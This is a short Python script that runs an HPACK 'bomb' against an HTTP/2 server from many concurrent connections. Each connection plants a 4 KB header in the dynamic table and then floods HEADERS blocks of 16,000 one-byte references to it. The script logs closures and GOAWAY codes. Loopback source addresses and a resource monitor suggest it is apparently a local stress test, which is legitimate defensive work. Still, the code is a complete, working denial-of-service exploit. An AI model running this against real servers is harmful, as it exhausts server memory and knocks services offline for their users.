# HPACK bomb from N connections at once (each: a 4 KB dynamic-table entry, then HEADERS blocks of
# 16000 one-byte references to it, 64 MB decoded each), 15 s; reconnects when closed (RECONNECT=1).
#   python3 hb_multi.py N
import sys, threading, os
from common import *
from h2_attacks import drain, goaway_in
n = int(sys.argv[1]); reconnect = os.environ.get("RECONNECT") == "1"
res = []
def bomb(k):
    t0 = time.time(); conns = 0; blocks = 0; codes = []
    while time.time() - t0 < 15:
        t = h2conn(src=f"127.0.3.{k+1}", timeout=5); conns += 1
        t.sendall(frame(SETTINGS, ACK, 0))
        t.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + hpack_lit("x-bomb", "b" * 4000, index=True)))
        sid, chunks, how = 3, [], "open after 15 s"
        while time.time() - t0 < 15:
            try:
                t.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block() + b"\xbe" * 16000))
            except OSError as e:
                how = f"send failed {e.__class__.__name__} at {time.time()-t0:.2f}s"; break
            sid += 2; blocks += 1
            if not drain(t, chunks):
                how = f"closed at {time.time()-t0:.2f}s"; break
        codes.append(goaway_in(chunks))
        t.close()
        if not reconnect: break
    res.append((k, conns, blocks, how, codes[:5]))
m = Monitor(label=f"hb{n}"); m.start()
ths = [threading.Thread(target=bomb, args=(k,)) for k in range(n)]
[th.start() for th in ths]; [th.join() for th in ths]
time.sleep(1); m.stop()
for r in res: print("conn %d: %d connections, %d bomb blocks, last: %s, GOAWAY codes %s" % r)
